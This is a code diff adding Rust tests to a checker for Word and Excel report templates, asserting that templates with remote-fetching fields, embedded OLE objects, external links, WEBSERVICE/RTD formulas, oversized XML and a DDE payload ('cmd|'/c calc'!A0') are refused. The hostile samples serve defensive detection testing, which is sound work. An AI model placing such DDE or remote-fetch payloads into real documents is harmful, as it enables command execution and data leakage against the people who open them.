@@ -142,7 +142,6 @@ fn every_cell_that_is_frozen_has_a_name_and_a_cell_name() {
     let names = names_of(&input(&summary, &wording, true), &registers(), "BC-2024-001");
     let blank = blank(&registers());
     for cell in cells::cells(&summary).keys().filter(|cell| !cell.starts_with("documents/")) {
-        // The sample's unit isn't in these registers.
         assert!(blank.single(cell).is_some() || cell.starts_with("CNVPDK/"), "{cell}");
     }
     let lines = names.lines();
@@ -151,7 +150,6 @@ fn every_cell_that_is_frozen_has_a_name_and_a_cell_name() {
     assert_eq!((rate.value.as_str(), rate.raw.as_str()), ("99,91%", "99.91"));
     assert_eq!(line("fields/Đất đai/dossiers/resolved").cell_name, "bonro_fields_Đất_đai_dossiers_resolved");
     assert_eq!(line("group.name").items, Some(3));
-    // Nor are the places of its form but one.
     let untold = lines.iter().filter(|line| line.meaning.is_empty()).map(|line| line.name.as_str());
     let untold: Vec<&str> =
         untold.filter(|name| !name.starts_with("CNVPDK/") && !name.starts_with("place/")).collect();
@@ -272,4 +270,131 @@ fn what_a_workbook_names_must_be_there_and_have_room() {
     let faults = fill(&narrow, &names()).expect_err("three groups, two rows");
     assert_eq!(faults[0].reason, "TOO_FEW_ROWS");
     assert!(faults[0].vi.contains("cần 3 dòng, các dòng 5–6 chỉ có 2"), "{faults:?}");
+}
+
+fn forbidden(bytes: &[u8]) {
+    assert_eq!(refused(bytes)[0].reason, "FORBIDDEN_CONTENT", "{:?}", refused(bytes));
+}
+
+#[test]
+fn a_field_that_fetches_is_found_however_it_is_written() {
+    let good = runs(&["{{total/dossiers/resolved}}"]);
+    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
+    let say = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
+    let field = |said: &[String]| {
+        let shown = "<w:r><w:t>x</w:t></w:r>";
+        format!("{}{}{}{shown}{}", mark("begin"), said.concat(), mark("separate"), mark("end"))
+    };
+    let in_paragraphs = |inside: &str| format!("<w:p>{inside}</w:p>");
+    let split = field(&[say(" INCLUDE"), say("PICTURE \"http://x.example/a\"")]);
+    forbidden(&docx(&(good.clone() + &in_paragraphs(&split)), &[]));
+    let apart = field(&[say("IMP"), "</w:p><w:p>".to_owned(), say("ORT \"http://x.example/a\"")]);
+    forbidden(&docx(&(good.clone() + &in_paragraphs(&apart)), &[]));
+    forbidden(&docx(&(good.clone() + &in_paragraphs(&field(&[say("DATABASE \\d \"x\"")]))), &[]));
+    let reckoned = field(&[say("INC"), field(&[say("QUOTE LUDETEXT")]), say(" \"http://x.example/a\"")]);
+    forbidden(&docx(&(good.clone() + &in_paragraphs(&reckoned)), &[]));
+    let within = field(&[say(" IF "), field(&[say(" INCLUDETEXT \"a\" ")]), say(" = 1 \"\" \"\" ")]);
+    forbidden(&docx(&(good.clone() + &in_paragraphs(&within)), &[]));
+    // In whatever part, and however that is coded.
+    let comments = format!("<w:comments xmlns:w=\"{WORD}\">{}</w:comments>", in_paragraphs(&split));
+    forbidden(&docx(&good, &[("word/notes/of-mine.bin", comments)]));
+    // What shows is taken: the page's number, of pages, and one reckoned of them.
+    let shows = [
+        field(&[say(" PAGE ")]),
+        field(&[say("="), field(&[say("NUMPAGES")]), say("-1")]),
+        field(&[say(" HYPERLINK \"http://x.example/import link\" ")]),
+    ];
+    assert!(check(&docx(&(good + &in_paragraphs(&shows.concat())), &[]), &blank(&registers())).is_ok());
+}
+
+#[test]
+fn embedded_files_and_what_reaches_out_are_told_by_what_they_are() {
+    let good = runs(&["{{total/dossiers/resolved}}"]);
+    let relation = |kind: &str, target: &str| {
+        format!(
+            "<Relationships><Relationship Id=\"r1\" Type=\"http://x/relationships/{kind}\" Target=\"{target}\"/></Relationships>"
+        )
+    };
+    let rels = "word/_rels/document.xml.rels";
+    for kind in ["oleObject", "aFChunk", "package", "subDocument", "control"] {
+        forbidden(&docx(&good, &[(rels, relation(kind, "a.bin"))]));
+    }
+    let of_chart = [("word/charts/_rels/chart1.xml.rels", relation("package", "../embeddings/a.xlsx"))];
+    assert!(check(&docx(&good, &of_chart), &blank(&registers())).is_ok());
+    for bad in
+        ["<w:altChunk/>", "<w:object><o:OLEObject/></w:object>", "<v:imagedata src=\"http://x/a.png\"/>"]
+    {
+        forbidden(&docx(&(good.clone() + bad), &[]));
+    }
+    let link = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml";
+    let extra = format!("<Override PartName=\"/word/a.xml\" ContentType=\"{link}\"/>");
+    let document = format!("<w:document xmlns:w=\"{WORD}\"><w:body>{good}</w:body></w:document>");
+    let with = |extra: &str, name, text: &str| {
+        let (types, text) = (types(DOCUMENT, extra), text.to_owned());
+        packed(&[("[Content_Types].xml", types), ("word/document.xml", document.clone()), (name, text)])
+    };
+    forbidden(&with(&extra, "word/b.xml", "<a/>"));
+    let svg = "<Default Extension=\"svg\" ContentType=\"image/svg+xml\"/>";
+    assert!(check(&with(svg, "word/a.svg", "<!DOCTYPE svg><svg/>"), &blank(&registers())).is_ok());
+    forbidden(&with(svg, "word/a.svg", "<altChunk/>"));
+}
+
+#[test]
+fn a_formula_that_fetches_is_refused() {
+    let with = |formula: &str| {
+        let form = parts(&xlsx(&DEFINED));
+        let all: Vec<(&str, String)> = form
+            .iter()
+            .map(|(name, text)| (name.as_str(), text.replace("<f>B2/1000</f>", &format!("<f>{formula}</f>"))))
+            .collect();
+        packed(&all)
+    };
+    for bad in [
+        "_xlfn.WEBSERVICE(\"http://x.example/\"&amp;B5)",
+        "SUM(1,_xlfn.image (A1))",
+        "MAP(A1:A3,_xleta.WEBSERVICE)",
+        "RTD(\"a\",,\"b\")",
+        "cmd|'/c calc'!A0",
+    ] {
+        forbidden(&with(bad));
+    }
+    for good in
+        ["IF(A1=\"WEBSERVICE(|)\",'RTD 1'!B2,Image!B2)", "HYPERLINK(\"http://x.example/\",\"x\")", "$DDE$5+1"]
+    {
+        assert!(check(&with(good), &blank(&registers())).is_ok(), "{good}");
+    }
+}
+
+#[test]
+fn what_unfolds_to_too_much_is_refused_when_it_is_put() {
+    let good = runs(&["{{total/dossiers/resolved}}"]);
+    assert_eq!(reason(&docx(&(good.clone() + &"<a/>".repeat(600_000)), &[])), "TOO_LARGE");
+    let attributes: String = (0..300).map(|n| format!(" a{n}=\"\"")).collect();
+    assert_eq!(reason(&docx(&format!("{good}<a{attributes}/>"), &[])), "TOO_LARGE");
+    // A row of some thousand nodes, before anybody knows how long its list will be.
+    let row = |nodes: usize| {
+        let cells = runs(&["{{unit.name}}"]) + &"<a/>".repeat(nodes);
+        docx(&format!("<w:tbl><w:tr><w:tc>{cells}</w:tc></w:tr></w:tbl>"), &[])
+    };
+    assert!(check(&row(1000), &blank(&registers())).is_ok());
+    assert_eq!(reason(&row(10_000)), "TOO_LARGE");
+    assert_eq!(reason(&docx(&runs(&["{{say/dossiers}}".repeat(300_000).as_str()]), &[])), "TOO_LARGE");
+    // Names that aren't there are told up to a number.
+    assert_eq!(refused(&docx(&runs(&["{{a}}"]).repeat(1000), &[])).len(), 50);
+}
+
+#[test]
+fn what_signing_brings_has_no_name_and_stays_empty_in_forms_of_earlier_days() {
+    for name in ["report/number", "report/dated", "report/dated_on", "report/signer", "report/signer_title"] {
+        let faults = refused(&docx(&runs(&[&format!("Số {{{{{name}}}}}")]), &[]));
+        assert_eq!(faults[0].reason, "KNOWN_AT_SIGNING", "{faults:?}");
+        assert!(names().lines().iter().all(|line| line.name != name), "{name}");
+    }
+    let said = filled_body(&runs(&["Số {{report/number}}, {{place/of_another_form}}."]));
+    assert!(said.contains(">Số , .<"), "{said}");
+    assert_eq!(reason(&docx(&runs(&["{{place/of_another_form}}"]), &[])), "UNKNOWN_NAME");
+    assert_eq!(
+        fill(&docx(&runs(&["{{report/nothing}}"]), &[]), &names()).expect_err("none")[0].reason,
+        "UNKNOWN_NAME"
+    );
 }
